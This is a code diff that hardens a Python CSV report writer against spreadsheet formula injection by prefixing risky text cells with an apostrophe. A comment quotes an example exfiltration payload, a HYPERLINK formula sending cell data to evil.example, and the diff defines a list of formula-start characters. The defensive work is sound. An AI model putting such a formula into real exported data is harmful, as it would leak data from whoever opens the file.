@@ -184,6 +184,21 @@ def tables(report: Report) -> dict[str, tuple[Sequence[str], list[list[Any]]]]:
     }
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula: a review written as
+# `=HYPERLINK("https://evil.example?"&A1, "click")` would run on the marketing team's machine (OWASP "CSV
+# injection"). Such a text cell is written with a leading apostrophe, which spreadsheets show as text.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cell(value: Any) -> Any:
+    """A value as written in a CSV file: None empty, text from outside never read as a formula."""
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def write(report: Report, folder: Path) -> list[Path]:
     folder.mkdir(parents=True, exist_ok=True)
     written = []
@@ -192,6 +207,6 @@ def write(report: Report, folder: Path) -> list[Path]:
         with path.open("w", encoding="utf-8", newline="") as handle:
             writer = csv.writer(handle)
             writer.writerow(header)
-            writer.writerows(["" if value is None else value for value in row] for row in rows)
+            writer.writerows([cell(value) for value in row] for row in rows)
         written.append(path)
     return written
